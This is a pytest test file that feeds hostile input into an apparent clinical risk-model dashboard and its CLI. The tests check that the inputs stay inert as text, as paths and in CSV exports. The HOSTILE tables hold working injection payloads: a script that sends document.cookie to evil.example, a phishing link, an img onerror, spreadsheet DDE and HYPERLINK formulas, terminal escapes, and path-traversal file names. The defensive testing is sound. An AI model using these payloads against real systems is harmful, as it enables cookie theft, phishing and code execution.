"""Hostile input, table-driven: file names, column names, category levels, ids and query parameters that
try to become links, images, HTML, spreadsheet formulas, terminal escapes or paths outside a root.

What must hold: every markdown-rendering element of every page shows them as text (no live link, image or
HTML); names used in paths stay inside their root; CSV exports neutralise formula prefixes; the CLI answers
with one line and no traceback. Extend the tables below when a new surface takes user text.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from risklens.cli import main
from risklens.safety import UnsafePathError, csv_cell, inside, safe_slug

ROOT = Path(__file__).resolve().parents[1]
EVIL = "evil.example"

#: Strings that try to become markup, formulas or escapes (each names the evil host when it links out).
HOSTILE = [
    f"[Click to re-authenticate](https://{EVIL}/login)",
    f"![t](https://{EVIL}/t.png)",
    f"<img src=https://{EVIL}/i.png onerror=alert(1)>",
    f"<script>fetch('https://{EVIL}/'+document.cookie)</script>",
    f"javascript:alert(1)//https://{EVIL}",
    f"https://{EVIL}/bare-autolink",
    f"www.{EVIL}",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "**bold** _it_ `code` # heading",
    "line\nbreak\x1b[31mred",
]

#: File names a script (not a browser) can send with an upload.
HOSTILE_FILE_NAMES = [
    "../../../../srv/other/evil.csv",
    "..\\..\\windows\\evil.csv",
    "/etc/passwd.csv",
    f"[x](https://{EVIL}).csv",
    ".hidden.csv",
    "..csv",
]

_LINK = re.compile(r"(?<!\\)\]\(")             # [text](url) with an unescaped bracket
_HTML = re.compile(r"(?<!\\)<\s*[a-zA-Z/!]")   # a raw tag
_HOST = re.compile(r"evil\.example")            # the evil host with an unescaped dot: a live autolink


def assert_inert(text: str, where: str) -> None:
    """Markdown source that renders user text as text: no link, image, tag or autolinked host."""
    for pattern, what in ((_LINK, "a link"), (_HTML, "raw HTML"), (_HOST, "an autolinked URL")):
        assert not pattern.search(text), f"{where}: {what} in {text!r}"


# ---- paths ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", HOSTILE + HOSTILE_FILE_NAMES)
def test_names_in_paths_stay_inside_their_root(tmp_path, name):
    slug = safe_slug(name)
    assert re.fullmatch(r"[a-z0-9][a-z0-9._-]*", slug) and ".." not in slug.split("/")
    assert inside(tmp_path, slug).parent == tmp_path.resolve()


@pytest.mark.parametrize("name", ["../x", "../../etc/passwd", "/etc/passwd", "a/../../b"])
def test_raw_names_that_escape_are_refused(tmp_path, name):
    with pytest.raises(UnsafePathError):
        inside(tmp_path, name)


@pytest.mark.parametrize("filename", HOSTILE_FILE_NAMES)
def test_upload_file_name_never_carries_a_directory(filename, tmp_path, monkeypatch):
    """The cohort name taken from an upload's file name keeps only the last path component; the kept copy
    lives under a hex id in the RiskLens home, whatever the name."""
    import re

    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("RISKLENS_HOME", str(tmp_path))

    def app(filename):
        import numpy as np
        import pandas as pd
        import streamlit as st

        from risklens.ui import state
        from risklens.ui.upload import activate_upload

        rng = np.random.default_rng(0)
        frame = pd.DataFrame({"a": rng.normal(size=300).round(1), "b": rng.normal(size=300).round(1),
                              "y": (np.arange(300) % 5 == 0).astype(int)})
        cohort = activate_upload(frame, filename, "y")
        st.text(cohort.name if cohort is not None else f"error: {st.session_state.get(state.K_UPLOAD_ERROR)}")

    at = AppTest.from_function(app, args=(filename,), default_timeout=60).run()
    name = at.text[0].value
    assert not name.startswith("error"), name
    assert "/" not in name and "\\" not in name and not name.startswith("."), name
    kept = [p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file()]
    assert kept and all(re.fullmatch(r"data/uploads/open-session-[0-9a-f]{12}/[0-9a-f]{16}/[a-z.]+", str(p))
                        for p in kept), kept


# ---- CSV exports ---------------------------------------------------------------------------------

@pytest.mark.parametrize("cell", HOSTILE)
def test_csv_cells_never_start_a_formula(cell):
    safe = csv_cell(cell)
    assert not str(safe).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert str(safe).lstrip("'") == cell


def test_cli_csv_outputs_are_neutralised(tmp_path):
    from risklens.cli.common import write_table

    frame = pd.DataFrame({"id": HOSTILE, "value": np.linspace(-1, 1, len(HOSTILE)), "=bad header": 1.0})
    out = write_table(frame, tmp_path / "t.csv")
    back = pd.read_csv(out)
    assert not back.columns.str.match(r"^[=+\-@]").any()
    for cell in back["id"]:
        assert not str(cell).startswith(("=", "+", "-", "@")), cell
    np.testing.assert_allclose(back["value"], frame["value"])  # numbers, negative ones too, untouched


def test_dashboard_downloads_are_neutralised():
    import io

    from risklens.cohorts.base import Cohort
    from risklens.cohorts.dictionary import FeatureDictionary, FeatureInfo
    from risklens.explain import explain
    from risklens.patients.exports import attributions_csv, dictionary_csv
    from test_explain_fixtures import cohort, model

    m = model("l1-logistic")
    X, y = cohort()
    rows = X.iloc[: len(HOSTILE)].copy()
    rows.index = pd.Index([h.replace("\n", " ") for h in HOSTILE], name="id")
    d = FeatureDictionary([FeatureInfo(f, HOSTILE[i % len(HOSTILE)].replace("\n", " ")) for i, f in enumerate(X.columns)])
    c = Cohort("=cohort", rows, y[: len(rows)], d)
    for text in (attributions_csv(explain(m, rows, "coef"), m, c), dictionary_csv(d)):
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        cells = [*frame.columns, *frame.to_numpy().ravel()]
        bad = [x for x in cells if x.startswith(("=", "+", "@")) or (x.startswith("-") and not _number(x))]
        assert not bad, bad[:3]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_cli_explain_with_hostile_ids_writes_a_neutralised_csv(tmp_path, capsys):
    from risklens.modeling import save_model
    from test_explain_fixtures import cohort, model

    save_model(model("l1-logistic"), tmp_path / "m")
    X, _ = cohort()
    rows = X.iloc[: len(HOSTILE)].copy()
    rows.index = pd.Index(HOSTILE, name="id")
    rows.reset_index().to_parquet(tmp_path / "rows.parquet")
    assert main(["explain", "--model", str(tmp_path / "m"), "--data", str(tmp_path / "rows.parquet"), "--id", "id",
                 "--method", "coef", "--out", str(tmp_path / "e.csv")]) == 0
    capsys.readouterr()
    ids = pd.read_csv(tmp_path / "e.csv")["id"].astype(str)
    assert len(ids) == len(HOSTILE)
    assert not ids.str.match(r"^[=+\-@]").any()


# ---- CLI messages --------------------------------------------------------------------------------

@pytest.mark.parametrize("name", HOSTILE[:3] + ["line\nbreak.csv", "tab\there.csv"])
def test_cli_errors_are_one_line(tmp_path, name):
    proc = subprocess.run([sys.executable, "-m", "risklens", "train", "--data", str(tmp_path / name), "--outcome", "y",
                           "--model", "xgboost", "--out", str(tmp_path / "m")], capture_output=True, text=True,
                          timeout=120, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin",
                                            "RISKLENS_HOME": str(tmp_path)})
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr


def test_audit_listing_shows_hostile_text_escaped(tmp_path, capsys):
    from risklens.audit import AuditLog

    url = f"sqlite:///{tmp_path / 'a.sqlite'}"
    log = AuditLog(url)
    for h in HOSTILE:
        log.append(h, "upload", patient_id=h, file=h)
    assert main(["audit", "--url", url]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and out.count("\n") == len(HOSTILE) + 1


# ---- pages ---------------------------------------------------------------------------------------

def _hostile_cohort():
    from risklens.cohorts.upload import cohort_from_upload

    rng = np.random.default_rng(0)
    n = 400
    frame = pd.DataFrame({
        "id": [f"{HOSTILE[i % 7]} #{i}" for i in range(n)],
        HOSTILE[0]: rng.normal(80, 10, n).round(1),
        HOSTILE[2]: rng.normal(18, 3, n).round(1),
        "hr": rng.normal(90, 15, n).round(1),
        "ward": [HOSTILE[i % 3] for i in range(n)],
        "y": (rng.random(n) < 0.2).astype(int),
    })
    return cohort_from_upload(frame, "y", id_col="id", name=f"[upload](https://{EVIL}/n)")


@pytest.fixture(scope="module")
def hostile_session(tmp_path_factory):
    import os

    from apptest_support import demo_home
    from risklens.modeling import save_model, train_runs
    from risklens.ui import state

    home_gen = demo_home(tmp_path_factory, 1200)
    home = next(home_gen)
    cohort = _hostile_cohort()
    m = train_runs(cohort, "l1-logistic", runs=1, seed=0)[0]
    path = save_model(m, home / "models" / "hostile-l1")
    os.environ["RISKLENS_AUDIT_URL"] = f"sqlite:///{home / 'audit.sqlite'}"
    yield {state.K_COHORT: cohort, state.K_MODELS: {cohort.hash: [str(path)]}}
    os.environ.pop("RISKLENS_AUDIT_URL", None)
    next(home_gen, None)


def _all_text(at) -> list[tuple[str, str]]:
    kinds = ("markdown", "caption", "error", "warning", "info", "success", "title", "header", "subheader")
    return [(k, str(e.value)) for k in kinds for e in getattr(at, k)]


@pytest.mark.parametrize("page", ["pages/home.py", "pages/data.py", "pages/model.py", "pages/explanations.py",
                                  "pages/report.py", "pages/consistency.py", "pages/audit.py"])
def test_pages_show_hostile_names_as_text(hostile_session, page):
    from apptest_support import open_page

    at = open_page(page, session=hostile_session)
    texts = _all_text(at)
    assert texts, page
    for kind, text in texts:
        assert_inert(text, f"{page} {kind}")
    shown = " ".join(t for _, t in texts)
    if page in ("pages/home.py", "pages/data.py"):
        assert "upload" in shown  # the hostile cohort is the one drawn, its name escaped


@pytest.mark.parametrize("value", HOSTILE[:2])
def test_patient_query_parameter_is_shown_as_text(hostile_session, value):
    from apptest_support import open_page

    at = open_page(None, query={"patient": value})  # a bare ?patient= link goes through app.py
    for kind, text in _all_text(at):
        assert_inert(text, f"patients {kind}")
    assert any("not in the active cohort" in e.value for e in at.error)
